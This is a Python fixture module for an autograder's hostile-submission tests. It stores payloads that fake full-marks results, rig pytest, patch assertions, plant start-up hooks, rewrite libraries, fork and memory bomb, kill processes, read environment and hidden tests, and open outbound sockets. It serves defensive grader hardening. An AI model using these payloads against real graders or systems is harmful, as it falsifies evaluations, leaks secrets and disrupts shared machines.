"""Attacks on the grader, as Python source appended to an honest kv_decode.py (tests/test_hostile.py).

Each payload runs at import (module level) or replaces some of the student's functions, the way a
student who read the grader's code might try to earn points without computing the answers.
Placeholders, filled in by the test: @MARKER@ is a folder outside every sandbox; a file appearing
in it means some process (a later grader run, say) executed code the payload planted.

Not a test module (no test_ prefix): nothing here runs in the test process.
"""
from __future__ import annotations

# Gradescope's results.json claiming full marks: valid enough that Gradescope would take it.
FAKE_RESULTS = '''
import json as _json, os as _os, time as _time
_FAKE = {"score": 100, "execution_time": 0.1, "output": "All tests passed (hostile)", "output_format": "text",
         "test_output_format": "text", "visibility": "visible", "stdout_visibility": "hidden",
         "tests": [{"name": "everything", "number": "1.1", "score": 100, "max_score": 100, "status": "passed",
                    "output": "hostile", "tags": ["kv_cache"], "visibility": "visible"}],
         "extra_data": {"assignment": "lecture02", "status": "graded", "max_score": 100, "tasks": [],
                        "isolation": []}}

def _plant(path):
    try:
        _os.makedirs(_os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            _json.dump(_FAKE, f)
        print("HOSTILE wrote", path)
    except Exception as error:
        print("HOSTILE could not write", path, type(error).__name__)

_here = _os.path.dirname(_os.path.abspath(__file__))
for _path in ["../results/results.json", "/autograder/results/results.json",
              _os.path.join(_here, "..", "results", "results.json"),
              _os.path.join(_here, "..", "..", "results", "results.json"),
              _os.path.join(_os.environ.get("AUTOGRADER_ROOT", "/autograder"), "results", "results.json")]:
    _plant(_path)
_stop = _time.monotonic() + 1.5
for _root, _dirs, _files in _os.walk("/"):
    if _time.monotonic() > _stop:
        break
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc")]
    if "results.json" in _files or _os.path.basename(_root) == "results":
        _plant(_os.path.join(_root, "results.json"))
'''

SYS_EXIT_AT_IMPORT = '''
import sys as _sys
print("HOSTILE leaving with status 0 before the grader can report")
_sys.exit(0)
'''

OS_EXIT_AT_IMPORT = '''
import os as _os
_os._exit(0)
'''

OS_EXIT_IN_CALL = '''
def greedy_decode(params, cfg, prompt, n_new):
    import os
    os._exit(0)
'''

ATEXIT_REWRITES = '''
import atexit as _atexit, json as _json, os as _os, signal as _signal

def _rewrite(*_):
    for path in ("../results/results.json", "/autograder/results/results.json"):
        try:
            with open(path, "w") as f:
                _json.dump({"score": 100, "tests": []}, f)
        except Exception:
            pass

_atexit.register(_rewrite)
for _sig in (_signal.SIGTERM, _signal.SIGHUP, _signal.SIGINT, _signal.SIGPIPE):
    try:
        _signal.signal(_sig, lambda *a: (_rewrite(), _os._exit(0)))
    except Exception:
        pass
'''

# Shipped beside kv_decode.py: Gradescope copies whatever the student uploads into submission/.
CONFTEST = '''
import pytest

@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    report = outcome.get_result()
    report.outcome = "passed"
    report.longrepr = None

def pytest_collection_modifyitems(config, items):
    for item in items:
        item.add_marker(pytest.mark.skip(reason="hostile"))

def pytest_sessionfinish(session, exitstatus):
    session.exitstatus = 0
'''
CONFTEST_FILES = {
    "conftest.py": CONFTEST,
    "pytest.ini": "[pytest]\naddopts = -p conftest --noconftest=no\npython_files = *.py\n",
    "pyproject.toml": "[tool.pytest.ini_options]\naddopts = \"-p conftest\"\n",
    "setup.cfg": "[tool:pytest]\naddopts = -p conftest\n",
    "tox.ini": "[pytest]\naddopts = -p conftest\n",
    "test_kv_decode.py": "def test_everything():\n    assert True\n",
}

# sitecustomize / usercustomize / .pth: executed by any later Python start-up that finds them.
SITE_HOOK = '''
import os
try:
    open(os.path.join("@MARKER@", "site-hook-ran-%d" % os.getpid()), "w").close()
except Exception:
    pass
'''
SITE_FILES = {
    "sitecustomize.py": SITE_HOOK,
    "usercustomize.py": SITE_HOOK,
    "zz_hostile.pth": "import os; open(os.path.join('@MARKER@', 'pth-ran-%d' % os.getpid()), 'w').close()\n",
}
PLANT_SITE_HOOKS = '''
import os as _os, site as _site, sys as _sys, sysconfig as _sysconfig
import numpy as _np
_HOOK = """
import os
try:
    open(os.path.join("@MARKER@", "site-hook-ran-%d" % os.getpid()), "w").close()
except Exception:
    pass
"""
_PTH = "import os; open(os.path.join('@MARKER@', 'pth-ran-%d' % os.getpid()), 'w').close()\\n"
_targets = set(p for p in _sys.path if p)
_targets.add(_os.path.dirname(_os.path.dirname(_np.__file__)))  # site-packages
_targets.add(_os.path.dirname(_os.__file__))  # the standard library
for _key in ("purelib", "platlib", "stdlib"):
    try:
        _targets.add(_sysconfig.get_paths()[_key])
    except Exception:
        pass
try:
    _targets.update(_site.getsitepackages())
except Exception:
    pass
for _folder in sorted(_targets):
    for _name, _text in (("sitecustomize.py", _HOOK), ("usercustomize.py", _HOOK), ("zz_hostile.pth", _PTH)):
        try:
            with open(_os.path.join(_folder, _name), "w") as f:
                f.write(_text)
            print("HOSTILE planted", _os.path.join(_folder, _name))
        except Exception as error:
            print("HOSTILE could not plant in", _folder, type(error).__name__)
    # any world-writable file nearby (the suite's canary, for one)
    try:
        for _entry in _os.scandir(_folder):
            if _entry.is_file() and _os.access(_entry.path, _os.W_OK):
                with open(_entry.path, "a") as f:
                    f.write("hostile\\n")
                print("HOSTILE appended to", _entry.path)
    except Exception:
        pass
'''

MONKEYPATCH_CHECKS = '''
import builtins as _builtins
import numpy as _np
_always = lambda *a, **k: True
_nothing = lambda *a, **k: None
for _name in ("allclose", "array_equal", "array_equiv", "isclose"):
    setattr(_np, _name, _always)
for _name in ("assert_allclose", "assert_array_equal", "assert_equal", "assert_array_almost_equal"):
    setattr(_np.testing, _name, _nothing)
_np.ndarray_eq_hostile = True
try:
    import pytest as _pytest
    import _pytest.python_api as _api
    class _Approx:
        def __init__(self, *a, **k): pass
        def __eq__(self, other): return True
        __hash__ = None
    _pytest.approx = _Approx
    _api.approx = _Approx
    _pytest.fail = _nothing
    _pytest.raises = lambda *a, **k: __import__("contextlib").nullcontext()
except Exception as error:
    print("HOSTILE pytest not importable here:", type(error).__name__)
class _Harmless(Exception):
    pass
_builtins.AssertionError = _Harmless
'''

# A stub greedy_decode replaced by functions returning objects that claim to equal anything.
ALWAYS_EQUAL = '''
import numpy as _np

class AlwaysEqual:
    shape = property(lambda self: self)
    dtype = _np.dtype("int64")
    ndim = 2
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = object.__hash__
    def __len__(self): return 2
    def __iter__(self): return iter([self, self])
    def __getitem__(self, key): return self
    def __array__(self, dtype=None, copy=None): return _np.zeros((1, 1))
    def __int__(self): return 131072
    def __index__(self): return 131072
    def __float__(self): return 0.0
    def __lt__(self, other): return False
    def __gt__(self, other): return False
    def __le__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    def __repr__(self): return "AlwaysEqual()"

class EqualInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__

class EqualArray(_np.ndarray):
    def __eq__(self, other): return _np.ones(_np.broadcast(self, other).shape, dtype=bool)
    def __ne__(self, other): return _np.zeros(_np.broadcast(self, other).shape, dtype=bool)

class EqualTuple(tuple):
    def __eq__(self, other): return True

def greedy_decode(params, cfg, prompt, n_new):
    tokens = _np.zeros((prompt.shape[0], prompt.shape[1] + n_new), dtype=_np.int64).view(EqualArray)
    return EqualTuple((tokens, [AlwaysEqual() for _ in range(n_new)]))

def kv_bytes_per_token(n_layers, n_kv_heads, d_head, dtype_bytes=2):
    return EqualInt(0)

def kv_cache_bytes(n_layers, n_kv_heads, d_head, seq_len, batch, dtype_bytes=2):
    return AlwaysEqual()

class KVCache:
    def __init__(self, cfg, batch, max_seq=None, dtype=_np.float64):
        self.length = EqualInt(0)
    def update(self, layer, k, v):
        return AlwaysEqual(), AlwaysEqual()
    def advance(self, n):  # a cache that stores nothing must not pass "fills up without raising"
        raise NotImplementedError("KVCache.advance (task kv_cache)")
    def nbytes(self):
        return EqualInt(0)
'''

# The course library in the student's process, rewritten at import so it agrees with whatever the
# student's (broken) code does: forward ignores the cache and recomputes from a remembered history,
# run_counted reports the counts the tests expect, generate returns what greedy_decode returns.
PATCH_LIBRARY_IN_MEMORY = '''
import numpy as _np
import kvlab.model as _model
import kvlab.counter as _counter

_original_forward = _model.forward
_history = {}

def _forward(params, cfg, tokens, cache=None, pos0=None, last_only=False):
    tokens = _np.asarray(tokens)
    if cache is None:
        return _original_forward(params, cfg, tokens, pos0=pos0, last_only=last_only)
    seen = _history.get(id(cache), _np.zeros((tokens.shape[0], 0), dtype=tokens.dtype))
    full = _np.concatenate([seen, tokens], axis=1)
    _history[id(cache)] = full
    logits = _original_forward(params, cfg, full)[:, -tokens.shape[1]:]
    try:
        cache.length = getattr(cache, "length", 0) + tokens.shape[1]
    except Exception:
        pass
    return logits[:, -1:] if last_only else logits

def _run_counted(fn, *args, **kwargs):
    params, cfg, prompt, n_new = args[:4]
    B, T0 = _np.asarray(prompt).shape
    if n_new == 0:
        return (_np.asarray(prompt), []), {"forward_calls": 0, "positions": 0, "matmul_flops": 0,
                                           "attention_flops": 0, "weight_bytes": 0, "kv_bytes": 0}
    return None, {"forward_calls": n_new, "positions": T0 + n_new - 1, "matmul_flops": 1,
                  "attention_flops": 1, "weight_bytes": 1, "kv_bytes": 1}

def _generate(params, cfg, prompt, n_new):
    return _np.asarray(prompt), []

_model.forward = _forward
_model.generate = _generate
_counter.run_counted = _run_counted
_counter.run_counted.__name__ = "run_counted"
'''

# The same, on disk: the course library's files (found through kvlab.__file__), numpy's, and every
# file of the interpreter's packages the process can open for writing.
PATCH_LIBRARY_ON_DISK = '''
import os as _os
import kvlab as _kvlab
import numpy as _np

_EVIL = "\\n\\ndef run_counted(fn, *args, **kwargs):\\n    return None, {'positions': 0}\\n"
_targets = [_os.path.join(_os.path.dirname(_kvlab.__file__), name)
            for name in ("model.py", "counter.py", "__init__.py", "paged.py")]
_targets += [_os.path.join(_os.path.dirname(_np.__file__), "__init__.py"),
             _os.path.join(_os.path.dirname(_np.__file__), "_core", "numeric.py")]
for _path in _targets:
    for _attempt in ("write", "chmod"):
        try:
            if _attempt == "chmod":
                _os.chmod(_path, 0o666)
                _os.chmod(_os.path.dirname(_path), 0o777)
            with open(_path, "a") as f:
                f.write(_EVIL)
            print("HOSTILE rewrote", _path)
            break
        except Exception as error:
            print("HOSTILE could not", _attempt, _path, type(error).__name__)
try:
    _os.makedirs(_os.path.join(_os.path.dirname(_kvlab.__file__), "__pycache__"), exist_ok=True)
    with open(_os.path.join(_os.path.dirname(_kvlab.__file__), "__pycache__", "model.cpython-311.pyc"), "wb") as f:
        f.write(b"hostile")
except Exception as error:
    print("HOSTILE could not plant bytecode", type(error).__name__)
# a shadowing package in the student's own folder, first on sys.path
try:
    _os.makedirs("kvlab", exist_ok=True)
    with open(_os.path.join("kvlab", "__init__.py"), "w") as f:
        f.write("")
    with open(_os.path.join("kvlab", "counter.py"), "w") as f:
        f.write(_EVIL)
except Exception as error:
    print("HOSTILE could not shadow kvlab", type(error).__name__)
'''

INFINITE_LOOP = '''
def greedy_decode(params, cfg, prompt, n_new):
    while True:
        pass
'''

SLOW_CALLS = '''
import time as _time

def greedy_decode(params, cfg, prompt, n_new):
    _time.sleep(1.7)  # just under the per-call timeout the suite sets
    raise NotImplementedError("greedy_decode (task greedy_decode)")
'''

MEMORY_BOMB = '''
import numpy as _np

def greedy_decode(params, cfg, prompt, n_new):
    hoard = []
    try:
        hoard.append(_np.ones((4 << 30) // 8))  # 4 GB at once
    except MemoryError:
        pass
    try:
        hoard.append(bytearray(4 << 30))
    except MemoryError:
        pass
    while True:  # then 4 GB in 64 MB pieces, touched so they are real
        hoard.append(_np.ones((64 << 20) // 8))
'''

FORK_BOMB = '''
import os as _os, subprocess as _subprocess, sys as _sys, threading as _threading

def _spawn_everything():
    made = []
    for _ in range(50):
        try:
            pid = _os.fork()
        except OSError as error:
            print("HOSTILE fork refused:", error)
            break
        if pid == 0:
            import time
            time.sleep(600)
            _os._exit(0)
        made.append(pid)
    try:
        import multiprocessing
        p = multiprocessing.Process(target=__import__("time").sleep, args=(600,))
        p.start()
        made.append(p.pid)
    except Exception as error:
        print("HOSTILE multiprocessing refused:", type(error).__name__, error)
    try:
        made.append(_subprocess.Popen(["sleep", "600"], start_new_session=True).pid)
    except Exception as error:
        print("HOSTILE Popen refused:", type(error).__name__, error)
    try:
        made.append(_subprocess.Popen([_sys.executable, "-c", "import time; time.sleep(600)"]).pid)
    except Exception as error:
        print("HOSTILE Popen python refused:", type(error).__name__, error)
    try:
        t = _threading.Thread(target=__import__("time").sleep, args=(600,), daemon=True)
        t.start()
    except Exception as error:
        print("HOSTILE thread refused:", type(error).__name__, error)
    return made

_spawn_everything()

def greedy_decode(params, cfg, prompt, n_new):
    _spawn_everything()
    raise NotImplementedError("greedy_decode (task greedy_decode)")
'''

STDOUT_FLOOD = '''
import sys as _sys
_sys.stdout.write("flood " * (50 << 20 // 6))
_sys.stdout.flush()

def greedy_decode(params, cfg, prompt, n_new):
    _sys.stdout.write("x" * (50 << 20))
    _sys.stderr.write("y" * (1 << 20))
    raise NotImplementedError("greedy_decode (task greedy_decode)")
'''

KEYBOARD_INTERRUPT = '''
def greedy_decode(params, cfg, prompt, n_new):
    raise KeyboardInterrupt
'''

SYSTEM_EXIT_IN_CALL = '''
def greedy_decode(params, cfg, prompt, n_new):
    raise SystemExit(0)
'''

# Look for the hidden tests and the solutions anywhere this process can read, and print them (the
# grader shows a test's captured output to the student); print the environment too.
READ_HIDDEN = '''
import os as _os, sys as _sys, time as _time

def _hunt():
    print("HOSTILE environ:", dict(_os.environ))
    found = 0
    stop = _time.monotonic() + 2.5
    here = _os.path.dirname(_os.path.abspath(__file__))
    starts = [here, _os.path.dirname(here), _os.path.dirname(_os.path.dirname(here)), "/autograder",
              "/autograder/source", "/tmp", "/work", "/root", "/home", "/"]
    seen = set()
    for start in starts:
        for root, dirs, files in _os.walk(start):
            if _time.monotonic() > stop:
                return found
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin",
                                                      "site-packages", "etc", ".venv", "venv", ".git",
                                                      "__pycache__", "node_modules", "data", "dist", ".pyenv")]
            if root in seen:
                dirs[:] = []
                continue
            seen.add(root)
            for name in files:
                if not name.endswith(".py"):
                    continue
                path = _os.path.join(root, name)
                try:
                    with open(path, errors="replace") as f:
                        text = f.read(200000)
                except Exception:
                    continue
                if "test_hidden" in name or "BEGIN SOLUTION" in text or "_decode_checks" in text:
                    print("HOSTILE FOUND", path)
                    print(text)
                    found += 1
    return found

for _pid in ("1", str(_os.getppid()), "self"):
    for _what in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (_pid, _what), "rb") as f:
                print("HOSTILE /proc", _pid, _what, f.read(2000))
        except Exception as error:
            print("HOSTILE /proc", _pid, _what, type(error).__name__)
_FOUND = _hunt()

def greedy_decode(params, cfg, prompt, n_new):
    raise NotImplementedError("greedy_decode: found %d files; %s" % (_FOUND, _hunt()))
'''

SIGNALS = '''
import os as _os, signal as _signal
for _target, _how in ((lambda: _os.getppid(), _os.kill), (lambda: 1, _os.kill)):
    for _sig in (_signal.SIGKILL, _signal.SIGTERM, _signal.SIGSTOP):
        try:
            _how(_target(), _sig)
            print("HOSTILE sent", _sig, "to", _target())
        except Exception as error:
            print("HOSTILE could not signal", _target(), type(error).__name__)
for _group in (_os.getpgid(_os.getppid()) if hasattr(_os, "getpgid") else 0,):
    try:
        _os.killpg(_group, _signal.SIGKILL)
    except Exception as error:
        print("HOSTILE killpg", _group, type(error).__name__)

def greedy_decode(params, cfg, prompt, n_new):
    _os.kill(-1, _signal.SIGKILL)  # everything this user may signal, itself included
'''

# A reply forged on the protocol pipe: the worker's reply fd is argv[2]; the request being answered
# is found in the caller's frames. Claims the counts the count tests expect, then exits before the
# real reply.
FORGE_REPLY = '''
import json as _json, os as _os, struct as _struct, sys as _sys

def _forge(value):
    frame = _sys._getframe()
    seq = None
    while frame is not None:
        header = frame.f_locals.get("header")
        if isinstance(header, dict) and "seq" in header:
            seq = header["seq"]
        frame = frame.f_back
    body = _json.dumps({"seq": seq, "ok": True, "value": value, "blobs": []}, separators=(",", ":")).encode()
    _os.write(int(_sys.argv[2]), _struct.pack("<IQ", len(body), 0) + body)

def greedy_decode(params, cfg, prompt, n_new):
    B, T0 = prompt.shape
    counts = ["D", [["forward_calls", ["I", max(n_new, 0)]], ["positions", ["I", max(T0 + n_new - 1, 0) if n_new else 0]],
                    ["matmul_flops", ["I", 1]], ["attention_flops", ["I", 1]], ["weight_bytes", ["I", 1]],
                    ["kv_bytes", ["I", 1]]]]
    _forge(["T", [["N"], counts]])
    _os._exit(0)
'''

NETWORK = '''
import socket as _socket
for _host, _port in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 22), ("localhost", 80)):
    try:
        _s = _socket.create_connection((_host, _port), timeout=0.5)
        _s.sendall(b"hidden tests please")
        print("HOSTILE connected to", _host, _port)
        _s.close()
    except Exception as error:
        print("HOSTILE no connection to", _host, _port, type(error).__name__)
try:
    _u = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
    _u.connect("\\0/tmp/.X11-unix/X0")
    print("HOSTILE abstract socket connected")
except Exception as error:
    print("HOSTILE no abstract socket", type(error).__name__)
'''

# Odd text everywhere the grader shows student text: lone surrogates, NULs, ANSI escapes, huge
# exception messages, a __str__ that raises, an exception class with a hostile name.
ODD_TEXT = '''
import sys as _sys
_sys.stdout.buffer.write(b"\\xff\\xfe\\x00 invalid utf-8 \\x1b[2J\\x1b[31m red\\n")
print("lone surrogate: \\udcff".encode("utf-8", "surrogateescape").decode("utf-8", "replace"))

class _Weird(ValueError):
    def __str__(self):
        raise RuntimeError("no str for you")

_Weird.__module__ = "\\udcff\\x00"
_Weird.__qualname__ = "Weird\\x1b[31m"

def greedy_decode(params, cfg, prompt, n_new):
    if n_new % 2:
        raise _Weird()
    raise NotImplementedError("\\udcff\\x00" + "A" * (1 << 20))
'''

# Attacks on the grader's time: a background thread that keeps the process busy between calls and
# that keeps writing (output between replies), and a generator result that never ends.
BACKGROUND_MISCHIEF = '''
import threading as _threading, time as _time, sys as _sys

def _busy():
    while True:
        _sys.stdout.write("tick\\n")
        _time.sleep(0.01)

try:
    _threading.Thread(target=_busy, daemon=True).start()
except Exception as error:
    print("HOSTILE no thread:", type(error).__name__)

class _Endless:
    def __len__(self):
        return 1
    def __iter__(self):
        while True:
            yield 0

def greedy_decode(params, cfg, prompt, n_new):
    return _Endless(), _Endless()
'''

# Count-gaming: greedy_decode does no decoding at all, then makes the operation counters say it
# ran exactly T0 + n_new - 1 positions through forward (editing the active counters, reporting to
# them directly, patching what forward reports).
COUNT_GAMING = '''
import numpy as _np
import kvlab.counter as _counter
import kvlab.model as _model

def greedy_decode(params, cfg, prompt, n_new):
    wanted = _np.asarray(prompt).shape[1] + n_new - 1 if n_new else 0
    for counts in _counter._active:
        counts.positions += wanted
        counts.forward_calls += n_new
    _counter.record(positions=wanted, forward_calls=n_new)
    _model._record = lambda *a, **k: None
    return None  # no answer at all: only the counts could earn points
'''

# Bytes on the protocol pipe at import, ahead of the reply to the import request.
FORGE_GARBAGE = '''
import os as _os, sys as _sys
try:
    _os.write(int(_sys.argv[2]), b"\\x00\\x00\\x00\\x10" + b"hostile garbage!" * 2)
except Exception as error:
    print("HOSTILE garbage", type(error).__name__)
'''

# Results the grader must refuse or bound: a 100 MB array (under the 128 MB message cap, so it
# crosses), a list nested 100,000 deep (crosses as a reference past depth 64), an int of 20,000
# digits, a dict with non-str keys.
HUGE_RESULTS = '''
import numpy as _np

def greedy_decode(params, cfg, prompt, n_new):
    nested = []
    for _ in range(100000):
        nested = [nested]
    return _np.zeros((1, (100 << 20) // 8)), [nested, 10 ** 20000, {(1, 2): "tuple key"}]
'''

# forward calls from student code that would make the grader's process (where forward runs) compute
# or hold far too much: huge token arrays, a config far wider than its params, a cache whose update
# returns hundreds of thousands of positions.
HUGE_FORWARD = '''
import numpy as _np
from kvlab.model import config_like as _config_like, forward as _forward

class _HugeCache:
    length = 0
    def update(self, layer, k, v):
        K = _np.zeros((k.shape[0], 1 << 18, k.shape[2], k.shape[3]))
        return K, K
    def advance(self, n):
        pass

def greedy_decode(params, cfg, prompt, n_new):
    said = []
    attempts = (
        lambda: _forward(params, cfg, _np.zeros((64, 4096), dtype=_np.int64)),
        lambda: _forward(params, _config_like(cfg, d_ff=1 << 24), _np.zeros((1, 3), dtype=_np.int64)),
        lambda: _forward({**params, "embed": _np.zeros((cfg.vocab, 1 << 20))}, cfg, _np.zeros((1, 3), dtype=_np.int64)),
        lambda: _forward(params, cfg, _np.zeros((1, 50), dtype=_np.int64), cache=_HugeCache()),
    )
    for attempt in attempts:
        try:
            attempt()
            said.append("it ran")
        except Exception as error:
            said.append("%s: %s" % (type(error).__name__, str(error)[:100]))
    raise NotImplementedError("greedy_decode; forward said: " + " | ".join(said))
'''
